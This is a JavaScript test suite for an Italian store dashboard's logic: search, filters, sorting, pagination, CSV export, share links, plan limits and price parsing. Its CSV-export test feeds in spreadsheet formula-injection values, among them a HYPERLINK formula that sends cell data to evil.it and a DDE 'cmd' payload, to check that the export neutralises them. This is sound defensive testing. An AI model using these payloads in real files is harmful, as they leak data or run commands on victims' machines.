// The owner dashboard's pure rules (spec sections 2, 3, 4 and 9): search, filters, sorts,
// pagination of 20, bulk-delete targets, CSV export, share links, plan usage, product form.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { importSrc } from "./helpers.mjs";

let l;
before(async () => {
  l = await importSrc("features/dashboard/logic.ts");
});

const product = (id, extra = {}) => ({
  id,
  store_id: 1,
  slug: `p-${id}`,
  name: `Prodotto ${id}`,
  price: id,
  description: null,
  category: null,
  brand: null,
  image_url: null,
  in_stock: true,
  status: "normal",
  sku: null,
  ean: null,
  created: "2026-11-01T10:00:00Z",
  ...extra,
});

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF or LF records), to read the
 * export back as a spreadsheet would; the trailing empty record is dropped. */
function parseCsv(text, sep) {
  const rows = [];
  let row = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === "") quoted = true;
    else if (c === sep) {
      row.push(field);
      field = "";
    } else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
      if (c === "\r") i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
    } else field += c;
  }
  if (field !== "" || row.length) rows.push([...row, field]);
  return rows;
}

const catalogue = () => [
  product(1, { name: "Cemento Portland 32,5 R", brand: "Buzzi", category: "Cementi", price: 6.9, description: "Sacco da 25 kg" }),
  product(2, { name: "Lastra cartongesso", brand: "Knauf", category: "Cartongesso", price: 8.4, in_stock: false }),
  product(3, { name: "adesivo per piastrelle", brand: "Mapei", category: "Adesivi", price: null, status: "uncertain" }),
  product(4, { name: "Èlite pittura murale", brand: "Sikkens", category: "Pitture", price: 30, status: "incorrect", description: "Idropittura lavabile" }),
  product(5, { name: "Tassello nylon", brand: "Fischer", category: "cementi", price: 0.1, status: "uncertain", in_stock: false }),
];

describe("search (spec section 9: name, description, brand and category)", () => {
  test("matches each field, ignoring case and accents; every word must match", () => {
    const list = catalogue();
    const ids = (q) => l.filterProducts(list, { search: q, stock: "all", category: "all" }).map((p) => p.id);
    assert.deepEqual(ids("portland"), [1]);
    assert.deepEqual(ids("25 KG"), [1]);
    assert.deepEqual(ids("knauf"), [2]);
    assert.deepEqual(ids("adesivi"), [3]);
    assert.deepEqual(ids("elite"), [4]);
    assert.deepEqual(ids("lavabile"), [4]);
    assert.deepEqual(ids("cemento buzzi"), [1]);
    assert.deepEqual(ids("cemento knauf"), []);
    assert.deepEqual(ids("   "), [1, 2, 3, 4, 5]);
  });
});

describe("stock and category filters", () => {
  test("all, inStock, outOfStock, uncertain, incorrect", () => {
    const list = catalogue();
    const ids = (stock) => l.filterProducts(list, { search: "", stock, category: "all" }).map((p) => p.id);
    assert.deepEqual(l.STOCK_FILTERS, ["all", "inStock", "outOfStock", "uncertain", "incorrect"]);
    assert.deepEqual(ids("all"), [1, 2, 3, 4, 5]);
    assert.deepEqual(ids("inStock"), [1, 3, 4]);
    assert.deepEqual(ids("outOfStock"), [2, 5]);
    assert.deepEqual(ids("uncertain"), [3, 5]);
    assert.deepEqual(ids("incorrect"), [4]);
  });
  test("categories are distinct (case-insensitive) and sorted; the filter matches any case", () => {
    const list = catalogue();
    assert.deepEqual(l.categoriesOf(list), ["Adesivi", "Cartongesso", "Cementi", "Pitture"]);
    const ids = l.filterProducts(list, { search: "", stock: "all", category: "Cementi" }).map((p) => p.id);
    assert.deepEqual(ids, [1, 5]);
  });
  test("search and filters combine", () => {
    const ids = l.filterProducts(catalogue(), { search: "cement", stock: "outOfStock", category: "all" }).map((p) => p.id);
    assert.deepEqual(ids, [5]);
  });
});

describe("sorting (newest default, oldest, name, price)", () => {
  const ids = (sort) => l.sortProducts(catalogue(), sort).map((p) => p.id);
  test("newest is the default and orders by id", () => {
    assert.equal(l.initialListState.sort, "newest");
    assert.deepEqual(ids("newest"), [5, 4, 3, 2, 1]);
    assert.deepEqual(ids("oldest"), [1, 2, 3, 4, 5]);
  });
  test("names ignore case and accents", () => {
    assert.deepEqual(ids("nameAsc"), [3, 1, 4, 2, 5]);
    assert.deepEqual(ids("nameDesc"), [5, 2, 4, 1, 3]);
  });
  test("prices; products without a price go last both ways", () => {
    assert.deepEqual(ids("priceAsc"), [5, 1, 2, 4, 3]);
    assert.deepEqual(ids("priceDesc"), [4, 2, 1, 5, 3]);
  });
  test("sorting does not change the given list", () => {
    const list = catalogue();
    l.sortProducts(list, "nameAsc");
    assert.deepEqual(list.map((p) => p.id), [1, 2, 3, 4, 5]);
  });
});

describe("pagination (20 per page) and filter changes", () => {
  const many = Array.from({ length: 66 }, (_, i) => product(i + 1));
  test("pages of 20 with 'Mostrando a-b di N'", () => {
    assert.equal(l.PAGE_SIZE, 20);
    const first = l.listView(many, l.initialListState);
    assert.deepEqual([first.page, first.pages, first.total, first.from, first.to, first.items.length], [1, 4, 66, 1, 20, 20]);
    assert.equal(first.items[0].id, 66);
    const last = l.listView(many, { ...l.initialListState, page: 4 });
    assert.deepEqual([last.page, last.from, last.to, last.items.length], [4, 61, 66, 6]);
  });
  test("a page past the end shows the last page; none gives one empty page", () => {
    assert.equal(l.listView(many, { ...l.initialListState, page: 9 }).page, 4);
    const none = l.listView([], l.initialListState);
    assert.deepEqual([none.page, none.pages, none.total, none.from, none.to], [1, 1, 0, 0, 0]);
  });
  test("any change of search, sort or filter goes back to page 1", () => {
    const on3 = { ...l.initialListState, page: 3 };
    assert.equal(l.changeList(on3, { search: "x" }).page, 1);
    assert.equal(l.changeList(on3, { sort: "oldest" }).page, 1);
    assert.equal(l.changeList(on3, { stock: "inStock" }).page, 1);
    assert.equal(l.changeList(on3, { category: "Cementi" }).page, 1);
  });
  test("clearing filters keeps the sort, resets search, stock, category and page", () => {
    const s = { search: "x", sort: "priceAsc", stock: "incorrect", category: "Cementi", page: 2 };
    assert.equal(l.hasActiveFilters(s), true);
    const cleared = l.clearFilters(s);
    assert.deepEqual(cleared, { search: "", sort: "priceAsc", stock: "all", category: "all", page: 1 });
    assert.equal(l.hasActiveFilters(cleared), false);
  });
});

describe("bulk delete targets", () => {
  test("incorrect, uncertain or all", () => {
    assert.deepEqual(l.bulkTargets(catalogue(), "incorrect"), [4]);
    assert.deepEqual(l.bulkTargets(catalogue(), "uncertain"), [3, 5]);
    assert.deepEqual(l.bulkTargets(catalogue(), "all"), [1, 2, 3, 4, 5]);
    assert.deepEqual(l.bulkTargets([], "all"), []);
  });
});

describe("CSV export (spec section 3)", () => {
  test("semicolons, quoted fields, doubled quotes, newlines to spaces, missing price 0, si/no", () => {
    const csv = l.productsToCsv([
      product(1, { name: 'Tubo 1/2" zincato', price: 12.5, description: "Riga uno\nriga due\r\nriga tre", brand: "Acme; Spa", category: "Idraulica", in_stock: true }),
      product(2, { name: "Sacco", price: null, description: null, brand: null, category: null, in_stock: false }),
    ]);
    const lines = csv.split("\r\n");
    assert.equal(lines[0], "name;price;description;brand;category;in_stock");
    assert.equal(lines[1], '"Tubo 1/2"" zincato";"12.5";"Riga uno riga due riga tre";"Acme; Spa";"Idraulica";"si"');
    assert.equal(lines[2], '"Sacco";"0";"";"";"";"no"');
    assert.equal(lines[3], "");
    assert.equal(lines.length, 4);
  });
  test("read back by a CSV parser, no cell starts a formula: an apostrophe keeps it text", () => {
    const names = ["-20% sconto", '=HYPERLINK("http://evil.it/?"&A1;"Clicca")', "+39 06 1234567", "@SUM(A1)", "\tTab", "\uFF1D1+1"];
    const csv = l.productsToCsv(names.map((name, i) => product(i + 1, { name, brand: "=cmd|' /C calc'!A0", price: 0 })));
    const rows = parseCsv(csv, ";");
    assert.deepEqual(rows[0], ["name", "price", "description", "brand", "category", "in_stock"]);
    assert.deepEqual(
      rows.slice(1).map((r) => r[0]),
      names.map((n) => `'${n}`),
    );
    for (const row of rows.slice(1)) {
      assert.equal(row[3], "'=cmd|' /C calc'!A0");
      assert.equal(row[1], "0");
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
    // Ordinary text is untouched.
    assert.equal(parseCsv(l.productsToCsv([product(1, { name: "Cemento - 25 kg" })]), ";")[1][0], "Cemento - 25 kg");
  });
  test("prices keep at most two decimals", () => {
    assert.match(l.productsToCsv([product(1, { price: 1.005 + 2 })]), /"3.01"|"3"/);
    assert.match(l.productsToCsv([product(1, { price: 0.62 })]), /"0.62"/);
  });
  test("file name: prodotti_, the shop's name, the date YYYY-MM-DD, .csv", () => {
    assert.equal(l.exportFileName("Edilizia Demo", new Date(2026, 10, 3)), "prodotti_edilizia-demo_2026-11-03.csv");
    assert.equal(l.exportFileName("Ferramenta È Più!", new Date(2026, 0, 31)), "prodotti_ferramenta-e-piu_2026-01-31.csv");
    assert.equal(l.exportFileName("!!!", new Date(2026, 0, 1)), "prodotti_negozio_2026-01-01.csv");
  });
});

describe("share links (spec section 2)", () => {
  test("{host}/store/{id}/{slug} in WhatsApp, e-mail and Facebook links", () => {
    const url = l.publicStoreUrl("https://vetrina.example/", { id: 7, slug: "edilizia-demo" });
    assert.equal(url, "https://vetrina.example/store/7/edilizia-demo");
    const links = l.shareLinks(url, `Scopri Edilizia Demo: ${url}`, "Edilizia Demo");
    assert.equal(links.whatsapp, `https://wa.me/?text=${encodeURIComponent(`Scopri Edilizia Demo: ${url}`)}`);
    assert.ok(links.email.startsWith("mailto:?subject=Edilizia%20Demo&body="));
    assert.ok(decodeURIComponent(links.email).includes(url));
    assert.ok(links.facebook.endsWith(encodeURIComponent(url)));
  });
  test("shop name shortened by screen width (500, 748, 900, 1048, 1200 px)", () => {
    const long = "Ferramenta e Materiali Edili Fratelli Rossi di Rossi Mario e Luigi snc";
    const at = (w) => l.shortName(long, w).length;
    assert.ok(at(390) < at(600) && at(600) < at(800) && at(800) < at(1000) && at(1000) < at(1100));
    assert.equal(l.shortName(long, 1280), long);
    assert.ok(l.shortName(long, 390).endsWith("…"));
    assert.equal(l.shortName("Edilizia Demo", 390), "Edilizia Demo");
  });
});

describe("plan usage (spec section 9)", () => {
  test("bar colour: red from 90%, yellow from 75%, green below", () => {
    assert.equal(l.usageTone(45, 50), "red");
    assert.equal(l.usageTone(50, 50), "red");
    assert.equal(l.usageTone(38, 50), "yellow");
    assert.equal(l.usageTone(37, 50), "green");
    assert.equal(l.usageTone(0, 0), "red");
    assert.equal(l.usagePercent(75, 50), 100);
    assert.equal(l.usagePercent(10, 50), 20);
  });
  test("limits are the server's, as it sends them with the shop; none sent, none shown", () => {
    const starter = { products: 200, imports_per_month: 10, regenerations_per_month: 20 };
    assert.deepEqual(l.limitsOf({ plan: "starter", limits: starter }), starter);
    // whatever the plan's name says, the figures come from the server (a trial, a changed plan)
    assert.deepEqual(l.limitsOf({ plan: "free", limits: { products: 500, imports_per_month: null, regenerations_per_month: null } }), {
      products: 500,
      imports_per_month: null,
      regenerations_per_month: null,
    });
    const business = { products: null, imports_per_month: null, regenerations_per_month: null };
    assert.deepEqual(l.limitsOf({ plan: "business", limits: business }), business, "null is unlimited");
    assert.equal(l.limitsOf({ plan: "free", limits: { products: 0, imports_per_month: 0, regenerations_per_month: 0 } }).regenerations_per_month, 0);
    for (const store of [null, undefined, { plan: "free" }, { plan: "free", limits: null }, { limits: { products: 50 } }, { limits: { products: "50", imports_per_month: 3, regenerations_per_month: 0 } }, { limits: { products: -1, imports_per_month: 3, regenerations_per_month: 0 } }]) {
      assert.equal(l.limitsOf(store), null, JSON.stringify(store));
    }
    assert.equal(l.PLAN_LIMITS, undefined, "no copy of the plans' figures in the browser");
    assert.equal(l.planKey("unknown"), "free");
  });
  test("customer since: month and year in Italian", () => {
    const months = ["gennaio", "febbraio", "marzo", "aprile", "maggio", "giugno", "luglio", "agosto", "settembre", "ottobre", "novembre", "dicembre"];
    assert.equal(l.monthYear("2026-11-23T14:33:44Z", months), "novembre 2026");
    assert.equal(l.monthYear("2025-01-01", months), "gennaio 2025");
    assert.equal(l.monthYear("", months), null);
    assert.equal(l.shortDate("2026-12-07T00:00:00Z"), "07/12/2026");
  });
});

describe("product form", () => {
  test("payload: trimmed fields, empty ones null, price parsed, slug from the name", () => {
    const body = l.productPayload({ ...l.emptyForm, name: "  Cemento Rapido ", price: "12,50", brand: " ", category: "Cementi", in_stock: false }, "demo@vetrina.it");
    assert.deepEqual(body, {
      store_email: "demo@vetrina.it",
      name: "Cemento Rapido",
      slug: "cemento-rapido",
      price: 12.5,
      description: null,
      image_url: null,
      category: "Cementi",
      brand: null,
      in_stock: false,
      status: "normal",
    });
    assert.equal(l.productPayload({ ...l.emptyForm, name: "x", price: "" }, null).price, null);
  });
  test("an AI answer replaces what it gives, keeps what it leaves out, never price or stock", () => {
    const form = { ...l.emptyForm, name: "cemento 25kg", price: "6.9", brand: "Buzzi", in_stock: false };
    const merged = l.mergeGenerated(form, { name: "Cemento 25 kg", description: "Descrizione", brand: null, category: "Cementi", image_url: "/media/products/a.svg", status: "uncertain" });
    assert.deepEqual(merged, { name: "Cemento 25 kg", price: "6.9", description: "Descrizione", brand: "Buzzi", category: "Cementi", image_url: "/media/products/a.svg", in_stock: false, status: "uncertain" });
  });
  test("unsaved changes: compared field by field, surrounding spaces ignored", () => {
    const start = l.formOf(product(1, { name: "Sacco", price: 3, in_stock: true }));
    assert.equal(start.price, "3,00", "a price is edited the Italian way");
    assert.equal(l.formOf(product(1, { price: 0.1 })).price, "0,10");
    assert.equal(l.formOf(product(1, { price: 1234.5 })).price, "1234,50", "no thousands dot: the field reads back what it shows");
    assert.equal(l.sameForm(start, { ...start, name: "Sacco " }), true);
    assert.equal(l.sameForm(start, { ...start, in_stock: false }), false);
    assert.equal(l.sameForm(start, { ...start, description: "nuova" }), false);
  });
  test("description counter limit", () => {
    assert.equal(l.DESCRIPTION_MAX, 1000);
  });
  test("prices as owners type them", () => {
    for (const [typed, value] of [
      ["129,90", 129.9],
      ["12.50", 12.5],
      ["1.234,50", 1234.5],
      ["1,234.50", 1234.5],
      ["€ 8", 8],
      [" 0,10 ", 0.1],
      [",5", 0.5],
      ["1.234", 1234],
      ["1,234", 1.23],
      ["0,125", 0.13],
      ["", null],
    ]) {
      assert.equal(l.parsePrice(typed), value, typed);
    }
    for (const typed of ["12 euro", "12,5 euro", "EUR 8", "-3", "1,2,3", "abc", "12,50,", "1e3", "1000000,01"]) assert.ok(Number.isNaN(l.parsePrice(typed)), typed);
  });
  test("the dialog reads every price of the server's table as the server does", () => {
    // server/src/domain/price_cases.json: the contract of docs/decisions/013-prices.md,
    // checked by the Rust unit tests too.
    const file = fileURLToPath(new URL("../../server/src/domain/price_cases.json", import.meta.url));
    const cases = JSON.parse(readFileSync(file, "utf8"));
    assert.ok(cases.length >= 40, `${cases.length} cases`);
    for (const c of cases) {
      const got = l.priceCents(c.text);
      if (c.error) assert.ok(Number.isNaN(got), `${JSON.stringify(c.text)} is refused (${c.error}), got ${got}`);
      else assert.equal(got, c.cents, JSON.stringify(c.text));
    }
  });
  test("what the dialog sends reads back to the same cents", () => {
    for (const typed of ["129,90", "1.234,50", "0,1", "999.999,99", "1,234"]) {
      const euros = l.parsePrice(typed);
      assert.equal(Math.round(euros * 100), l.priceCents(typed), typed);
      assert.equal(l.priceCents(l.editablePrice(euros)), l.priceCents(typed), "shown as typed back");
    }
  });
});
